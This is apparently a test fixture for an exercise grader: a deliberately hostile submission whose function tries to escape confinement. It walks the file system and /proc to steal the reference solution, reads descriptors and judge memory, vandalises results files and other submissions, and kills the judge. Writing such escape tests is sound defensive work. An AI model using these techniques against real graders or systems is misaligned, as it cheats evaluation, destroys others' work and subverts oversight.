"""HOSTILE SUBMISSION (escape): tries every way out of the worker it knows, then answers with the
reference if it found it (full marks, were it not confined), else windows of zeros.

- read the reference and the hidden tests: a walk of the file system from ``/``, the judge's
  ``/proc/<pid>/cwd`` and ``/proc/<pid>/root``, paths named in ``/proc/<pid>/environ`` and
  ``cmdline``, every open file descriptor, ``/proc/<judge pid>/mem``;
- write over every ``results.json``, ``*.db`` and ``*.sqlite`` it can find in the temporary
  folders, and into every other submission there (any ``ex02_windows.py`` that is not its own);
  the temporary folders only, a safety of the test: were the confinement broken, an attack on
  the checkout would spoil the repository it runs from;
- connect to the TCP port named in ``port.txt`` beside it (the test listens there);
- kill the judge, and every process it may signal (``kill(-1)``); not as root: a safety of the
  test, not of the grader (a root that was not confined would kill the machine's processes).

Every attempt is bounded in time and count; what it reached it writes to stderr, marked
``ESCAPED:``, for the test's message.
"""

# ruff: noqa: F821
# (appended to the reference module: its sliding_windows is the one captured here)

import numpy as np

_honest_sliding_windows = sliding_windows
_SKIP = ("/proc", "/sys", "/dev")
_JUDGE_WORDS = (b"lstm_lab.cli", b"lstm-lab", b"pytest")


def sliding_windows(X, y, window):
    """The attacked function."""
    stolen = _escape()
    if stolen is not None:
        return stolen(X, y, window)
    Xw, yw = _honest_sliding_windows(X, y, window)
    return np.zeros_like(Xw), yw


def _say(what):
    import sys

    print(f"ESCAPED: {what}", file=sys.stderr, flush=True)


def _walk(top, seconds=4.0, limit=200_000):
    """Paths under ``top`` (files), bounded in time and count; the kernel's trees left out."""
    import os
    import time

    end, count = time.monotonic() + seconds, 0
    for root, dirs, files in os.walk(top, onerror=lambda e: None):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in _SKIP]
        for name in files:
            count += 1
            yield os.path.join(root, name)
        if time.monotonic() > end or count > limit:
            return


def _judges():
    """The pids of processes that look like the judge (pytest, lstm-lab grade)."""
    import os

    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    line = handle.read()
            except OSError:
                continue
            if any(word in line for word in _JUDGE_WORDS):
                found.append(int(entry))
    return found


def _candidates():
    """Every path where the reference ex02_windows.py might be read."""
    import os

    for path in _walk("/"):
        if path.endswith(os.path.join("solutions", "ex02_windows.py")):
            yield path
        if path.endswith("test_against_solutions.py"):
            yield path
    for pid in [os.getppid(), *_judges()]:
        for link in ("cwd", "root"):
            base = f"/proc/{pid}/{link}"
            yield os.path.join(base, "solutions", "ex02_windows.py")
            for path in _walk(base, seconds=1.0, limit=20_000):
                if path.endswith(os.path.join("solutions", "ex02_windows.py")):
                    yield path
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    words = handle.read().replace(b"=", b"\0").split(b"\0")
            except OSError:
                continue
            for word in words:
                if word.startswith(b"/"):
                    root = word.decode(errors="replace")
                    for up in (root, os.path.dirname(root), os.path.dirname(os.path.dirname(root))):
                        yield os.path.join(up, "solutions", "ex02_windows.py")


def _from_source(text, where):
    namespace = {}
    try:
        exec(compile(text, where, "exec"), namespace)
    except Exception:
        return None
    return namespace.get("sliding_windows")


def _steal():
    import os

    for path in _candidates():
        try:
            with open(path) as handle:
                text = handle.read()
        except OSError:
            continue
        _say(f"read {path}")
        if "def sliding_windows" in text:
            stolen = _from_source(text, path)
            if stolen is not None:
                return stolen
    for fd in range(3, 1024):
        try:
            data = os.pread(fd, 1 << 20, 0)
        except OSError:
            continue
        if b"def sliding_windows" in data:
            _say(f"read descriptor {fd}")
            stolen = _from_source(data.decode(errors="replace"), f"fd {fd}")
            if stolen is not None:
                return stolen
    for pid in _judges():
        try:
            with open(f"/proc/{pid}/mem", "rb") as handle:
                handle.read(1)
            _say(f"opened /proc/{pid}/mem")
        except OSError:
            pass
    return None


def _vandalise():
    import os

    mine = os.path.realpath(__file__)
    for top in ("/tmp", "/var/tmp"):
        for path in _walk(top, seconds=2.0, limit=50_000):
            name = os.path.basename(path)
            target = name == "results.json" or name.endswith((".db", ".sqlite"))
            other = name == "ex02_windows.py" and os.path.realpath(path) != mine
            if not (target or other):
                continue
            try:
                with open(path, "a") as handle:
                    handle.write("\n# pwned by the escape submission\n")
                _say(f"wrote {path}")
            except OSError:
                pass


def _connect():
    import os
    import socket

    try:
        with open(os.path.join(os.path.dirname(__file__), "port.txt")) as handle:
            port = int(handle.read())
    except (OSError, ValueError):
        return
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
            conn.sendall(b"pwned")
            _say(f"connected to 127.0.0.1:{port}")
    except OSError:
        pass


def _kill():
    import os
    import signal

    if os.getuid() == 0:  # a safety for this test: as root, this would reach every process
        return
    for pid in [*_judges(), -1]:
        try:
            os.kill(pid, signal.SIGKILL)
            _say(f"killed {pid}")
        except OSError:
            pass


def _escape():
    stolen = _steal()
    _vandalise()
    _connect()
    _kill()
    return stolen
